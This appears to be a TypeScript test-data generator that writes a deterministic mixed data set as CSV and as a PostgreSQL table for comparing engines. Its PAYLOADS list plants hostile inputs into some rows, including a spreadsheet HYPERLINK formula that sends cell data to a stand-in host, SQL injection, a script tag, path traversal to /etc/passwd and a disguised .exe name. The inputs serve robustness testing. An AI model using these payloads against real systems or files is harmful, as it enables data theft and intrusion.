/** A deterministic mixed data set written both as CSV and as a PostgreSQL table, to compare engines on. */
export interface SampleRow {
  id: number;
  amount: number | null;
  category: string;
  note: string | null;
  day: string;
  flag: boolean;
}

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1)', "x' OR 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', 'abc\u202Etxt.exe', 'bell\u0007here'];

export function sampleRows(n: number): SampleRow[] {
  let seed = 42;
  const random = (): number => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed / 2147483648;
  };
  return Array.from({ length: n }, (_, i) => ({
    id: i + 1,
    amount: i % 17 === 0 ? null : Math.round((random() * 1000 - 200) * 100) / 100,
    category: ['alpha', 'beta', 'gamma', 'delta', 'epsilon'][Math.floor(random() * random() * 5)]!,
    note: i % 13 === 0 ? null : i % 101 === 0 ? PAYLOADS[(i / 101) % PAYLOADS.length]! : `note ${Math.floor(random() * 500)}`,
    day: new Date(Date.UTC(2024, 0, 1) + Math.floor(random() * 365) * 86_400_000).toISOString().slice(0, 10),
    flag: random() < 0.3,
  }));
}

export function toCsv(rows: SampleRow[]): string {
  const cell = (v: unknown): string => {
    if (v === null) return '';
    const s = String(v);
    return /[",\n\r]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
  };
  return ['id,amount,category,note,day,flag', ...rows.map((r) => [r.id, r.amount, r.category, r.note, r.day, r.flag].map(cell).join(','))].join('\n') + '\n';
}
